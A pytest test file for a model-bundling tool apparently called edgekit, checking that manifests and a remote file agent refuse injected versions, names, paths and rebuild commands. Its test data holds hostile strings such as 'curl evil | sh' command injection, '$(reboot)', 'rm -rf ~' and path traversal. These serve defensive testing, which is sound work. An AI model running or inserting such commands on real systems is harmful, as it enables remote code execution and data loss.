"""A manifest by somebody who knows how to compute its digest."""

import dataclasses
import shlex
from pathlib import Path

import pytest

from edgekit.bundle.manifest import RuntimeNeed
from edgekit.bundle.store import open_bundle, write_bundle
from edgekit.core.errors import UsageError
from edgekit.devices.install import runtime_folder
from edgekit.devices.remote import files as remote_files
from edgekit.targets.descriptor import load_descriptor
from tests.bundle_files import LABELS, about, files, refusal, rewrite, write

EVIL_VERSIONS = (
    *("2026.4.1/../../..", "..", "2026.4.1'; curl evil | sh; '", "2026.4.1 --index-url http://x"),
    *("", "2026", "2026.4.1\n", "$(reboot)", "~", "1.2.3+/etc", "٢٠٢٦.4", "1." + "1" * 400),
)


@pytest.mark.parametrize("version", EVIL_VERSIONS)
def test_a_version_is_a_version(version: str, tmp_path: Path) -> None:
    path = write(tmp_path / "b")
    need = {"name": "openvino", "version": version, "match": "exact"}
    rewrite(path, lambda document: document.update(runtime=need))
    assert "is not a release of openvino" in refusal(path)
    with pytest.raises(UsageError, match="is not a release"):
        RuntimeNeed("openvino", version, "exact")


@pytest.mark.parametrize("version", ["2026.4.1", "10.3", "1.23.0.dev20250101001", "2.1rc1+cu12"])
def test_what_packages_call_themselves_passes(version: str) -> None:
    need = RuntimeNeed("onnxruntime", version, "same-or-newer")
    assert shlex.split(need.requirement.replace(">", ".")) == [need.requirement.replace(">", ".")]
    assert Path(runtime_folder("/root", need)).parent == Path("/root/runtimes")


@pytest.mark.parametrize("name", ["../..", "openvino/..", "evil", "onnxruntime"])
def test_a_runtime_is_the_targets_own(name: str, tmp_path: Path) -> None:
    path = write(tmp_path / "b")
    need = {"name": name, "version": "2026.4.1", "match": "exact"}
    rewrite(path, lambda document: document.update(runtime=need))
    refusal(path)


@pytest.mark.parametrize(
    "change",
    [
        {"name": "cpu'; curl evil | sh; '"},
        {"name": "cpu\ncurl evil | sh"},
        {"title": "a CPU\ncurl evil | sh"},
    ],
)
def test_a_target_is_called_by_plain_words(change: dict[str, str], tmp_path: Path) -> None:
    path = write(tmp_path / "b")

    def spoil(document: dict[str, object]) -> None:
        assert isinstance(document["target"], dict)
        document["target"].update(change)

    rewrite(path, spoil)
    assert "must be letters" in refusal(path)


@pytest.mark.parametrize("path", ["trt/exec", "../trtexec", "/a/../b", "/opt/.x", "a b", "/", ""])
def test_trtexec_is_a_whole_path_or_the_name(path: str) -> None:
    facts = load_descriptor("jetson-orin-nano").tensorrt
    assert facts is not None
    with pytest.raises(UsageError, match="trtexec must be"):
        dataclasses.replace(facts, trtexec=path)


@pytest.mark.parametrize(
    ("said", "shown"),
    [
        ("edgekit build --seed 3", "edgekit build --seed 3"),
        ("edgekit build --checkpoint best (1).pth", "edgekit build --checkpoint best '(1).pth'"),
        ("edgekit build --checkpoint 'a b.pth'", "edgekit build --checkpoint 'a b.pth'"),
        ("edgekit build; curl evil | sh", ""),
        ("edgekit build --seed 3; curl evil", "edgekit build --seed '3;' curl evil"),
        ("edgekit build $(reboot) 'open", "edgekit build '$(reboot)' ''\"'\"'open'"),
        ("edgekit build\n--seed 3", ""),
        ("rm -rf ~", ""),
    ],
)
def test_the_rebuild_line_is_one_command_of_ours(said: str, shown: str, tmp_path: Path) -> None:
    write_bundle(tmp_path / "b", dataclasses.replace(about(), rebuild=said), files(), LABELS)
    assert open_bundle(tmp_path / "b").manifest.rebuild_line() == shown


@pytest.fixture
def root(tmp_path: Path) -> Path:
    """edgekit's folder in the home of a device, where something precious lies as well."""
    (tmp_path / "precious").write_text("years of work")
    found = tmp_path / ".edgekit"
    (found / "runtimes" / "openvino-1").mkdir(parents=True)
    (found / "runtimes" / "away").symlink_to(tmp_path)
    return found


@pytest.mark.parametrize(
    "path",
    ["runtimes/../..", "..", ".", "", "../precious", "runtimes/away/precious", "runtimes/x/.."],
)
def test_the_agent_removes_nothing_outside_its_folder(path: str, root: Path) -> None:
    with pytest.raises(OSError, match="is not in edgekit's folder"):
        remote_files.remove(str(root), f"{root}/{path}" if path else str(root))
    with pytest.raises(OSError, match="is not in edgekit's folder"):
        remote_files.write(str(root), f"{root}/{path}" if path else str(root), "text")
    assert (root.parent / "precious").read_text() == "years of work"


def test_of_a_link_the_agent_removes_the_link(root: Path) -> None:
    remote_files.remove(str(root), f"{root}/runtimes/away")
    remote_files.remove(str(root), f"{root}/runtimes/openvino-1")
    assert list((root / "runtimes").iterdir()) == []
    assert (root.parent / "precious").exists()


def test_the_agent_takes_plain_names_only(root: Path) -> None:
    staging = f"{root}/staging"
    for files_there in ({"../precious": ["ab" * 32, 3]}, {"x": ["../../precious", 3]}):
        with pytest.raises(OSError, match=r"is not a (plain|SHA)"):
            remote_files.survey(str(root), staging, "", files_there)  # type: ignore[arg-type]
    (root / "staging").mkdir(exist_ok=True)
    with pytest.raises(OSError, match="is not a plain file name"):
        remote_files.name_all(str(root), staging, f"{root}/named", {"../x": "ab" * 32})
    with pytest.raises(OSError, match="is not in edgekit's folder"):
        remote_files.name_all(str(root), staging, f"{root}/..", {})
